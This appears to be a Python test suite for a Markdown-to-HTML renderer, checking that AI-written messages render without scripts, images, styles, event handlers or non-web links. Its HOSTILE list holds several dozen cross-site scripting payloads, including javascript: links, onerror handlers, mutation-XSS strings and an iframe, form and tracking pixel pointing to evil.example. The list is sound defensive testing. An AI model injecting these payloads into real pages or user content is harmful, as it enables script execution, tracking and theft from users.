"""A message as HTML: whatever a model writes, nothing of it runs, loads or hides."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from council.meeting.markdown import MAX_RENDERED, render

ALLOWED = {
    "p": set(), "br": set(), "hr": set(), "h1": set(), "h2": set(), "h3": set(), "h4": set(), "h5": set(), "h6": set(),
    "strong": set(), "em": set(), "s": set(), "code": {"class"}, "pre": set(), "blockquote": set(), "ul": set(),
    "ol": {"start"}, "li": set(), "table": set(), "thead": set(), "tbody": set(), "tr": set(), "th": {"align"},
    "td": {"align"}, "a": {"href", "title", "rel", "class"}, "span": {"class", "title"},
}  # fmt: skip

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](x \"onerror=alert(1)\")",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x](https://a.example/\" onmouseover=\"alert(1))",
    "[x](<https://a.example/> \"t\" onclick=alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=q></form>",
    "<p style=position:fixed>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```python onload=alert(1)\nprint('<b>')\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e\u2066gnp.exe\u2069",
    "<\0script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "[a](https://evil.example \"<script>alert(1)</script>\")",
    "**bold <b onclick=alert(1)>x</b>**",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<object data=x></object><embed src=x>",
    "<x onclick=alert(1)>x</x>",
    "1. ![](http://a) 2. <a\nhref\n=\njavascript:alert(1)>",
)  # fmt: skip


class Elements(HTMLParser):
    """Every element of a page with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def check_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED, f"<{tag}>"
        assert attributes.keys() <= ALLOWED[tag], f"<{tag} {attributes}>"
        href = attributes.get("href")
        if href is not None:
            assert not re.match(r"\s*(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", href, re.IGNORECASE), href
            assert {"noopener", "noreferrer", "nofollow"} <= set((attributes["rel"] or "").split())


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless(text: str) -> None:
    """No script, no image, no style, no handler, and links to the web and to mail only."""
    check_harmless(render(text))
    check_harmless(render(f"> - {text}\n\n| {text} |\n|---|\n| {text} |"))


@given(st.lists(st.sampled_from([*HOSTILE, *"<>[]()!`*_~|#-&;\"'= \n\t"]), max_size=8).map("".join))
@settings(max_examples=150, deadline=None)
def test_any_mixture_is_harmless(text: str) -> None:
    check_harmless(render(text))


def test_no_images() -> None:
    """A remote image tells who reads: there are none, but the link's text stays."""
    html = render("See ![a chart](https://evil.example/p.png).")
    assert "<img" not in html
    assert "chart" in html


def test_what_people_expect_of_markdown() -> None:
    """Headings, emphasis, lists, tables, quotes, code and links are shown as such."""
    html = render(
        "# T\n\n**b** *i* ~~s~~ `c`\n\n- x\n\n3. y\n\n> q\n\n|a|b|\n|-|-|\n|1|2|\n\n[l](https://example.org)"
    )
    for piece in (
        "<h1>T</h1>", "<strong>b</strong>", "<em>i</em>", "<s>s</s>", "<code>c</code>", "<li>x</li>",
        '<ol start="3">', "<blockquote>", "<td>1</td>", 'href="https://example.org"',
    ):  # fmt: skip
        assert piece in html


def test_code_is_coloured_and_escaped() -> None:
    """Code in a known language has classes, and is still text."""
    html = render("```python\nprint('<b>')\n```")
    assert '<span class="' in html
    assert "<b>" not in html
    assert "&lt;b&gt;" in html
    assert (
        render("```nolanguage\n<b>\n```")
        == '<pre><code class="language-nolanguage">&lt;b&gt;\n</code></pre>\n'
    )


@pytest.mark.parametrize("problem", [ImportError("no file"), OSError(24, "Too many open files")])
def test_code_whose_colours_cannot_be_fetched_stays_plain(
    monkeypatch: pytest.MonkeyPatch, problem: Exception
) -> None:
    """A server without a descriptor left cannot load a language's rules: the words are all there."""

    def fail(_language: str) -> None:
        raise problem

    monkeypatch.setattr("pygments.lexers.get_lexer_by_name", fail)
    assert render("```rust\n<b>\n```") == '<pre><code class="language-rust">&lt;b&gt;\n</code></pre>\n'


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "text",
    ["a" * 1_000_000, "<script>" * 50_000, "[" * 50_000, "*a " * 20_000, ">" * 50_000, "`" * 50_000, "|a" * 20_000],
)  # fmt: skip
def test_long_and_broken_text(text: str) -> None:
    """A line of a megabyte, or Markdown that never ends, is rendered all the same, and harmless."""
    html = render(text)
    check_harmless(html[:100_000])
    assert html


def test_a_long_message_is_plain() -> None:
    """Beyond MAX_RENDERED a message is shown as it was written."""
    html = render("<b>" + "x" * MAX_RENDERED)
    assert html.startswith("<pre>&lt;b&gt;")


def test_direction_marks_cannot_leave_the_message() -> None:
    """Right-to-left text is a block of its own."""
    assert render("\u202eabc").startswith("<p>")


def test_a_reference_right_after_its_sentence_is_its_source() -> None:
    """A quotation with its full stop inside, and then the reference: the figure in it has a source."""
    html = render("“Builds take 40 minutes.” [Ref: L4]: that is long. There are 12 teams.")
    assert ">40<" not in html
    assert ">12</span>" in html
